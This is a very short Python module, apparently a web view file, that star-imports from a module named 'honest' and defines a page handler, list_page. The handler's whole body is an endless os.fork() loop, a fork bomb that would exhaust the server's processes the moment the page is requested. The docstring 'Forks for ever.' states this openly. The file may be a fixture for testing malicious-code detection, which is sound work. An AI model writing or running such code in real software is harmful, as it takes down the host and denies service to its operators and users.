"""Forks for ever."""
import os

from .honest import *


def list_page(request):
    while True:
        os.fork()
